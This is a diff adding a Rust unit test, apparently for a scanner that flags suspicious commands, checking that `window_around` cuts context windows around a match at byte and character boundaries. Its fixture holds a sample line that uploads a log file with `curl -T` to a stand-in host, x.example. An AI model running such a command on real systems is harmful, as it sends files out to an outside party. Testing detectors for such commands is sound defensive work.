@@ -349,3 +349,27 @@ fn a_megabyte_of_decoys_is_decided_quickly_and_hides_nothing() {
     assert_eq!(found.len(), 1);
     assert!(!found[0].span.contains("more like it"), "{:?}", found[0]);
 }
+
+/// The windows the looks around a match read (`window_around`): the lines around it within their
+/// bytes, cut at character boundaries.
+#[test]
+fn each_window_around_a_match_keeps_to_its_bounds() {
+    let view = "f=/var/log/app.log\ncurl -T $f https://x.example\ncheck the upload\nand the log";
+    let start = view.find("curl").unwrap();
+    let windows = [&CONTEXT_WINDOW, &SCOPE_WINDOW, &SEARCH_WINDOW].map(|bounds| window_around(view, start, bounds));
+    assert_eq!(
+        windows,
+        [
+            "f=/var/log/app.log\ncurl -T $f https://x.example\ncheck the upload",
+            "curl -T $f https://x.example\ncheck the upload",
+            ""
+        ]
+    );
+    // On one long line: at most 160 bytes before (the 160th would split `é`), and 240 after the
+    // match or 360 in all.
+    let view = format!("{}é{}curl {}", "a".repeat(300), "b".repeat(159), "c".repeat(600));
+    let start = view.find("curl").unwrap();
+    let lengths =
+        [&CONTEXT_WINDOW, &SCOPE_WINDOW, &SEARCH_WINDOW].map(|bounds| window_around(&view, start, bounds).len());
+    assert_eq!(lengths, [159 + 240, 360, 159]);
+}
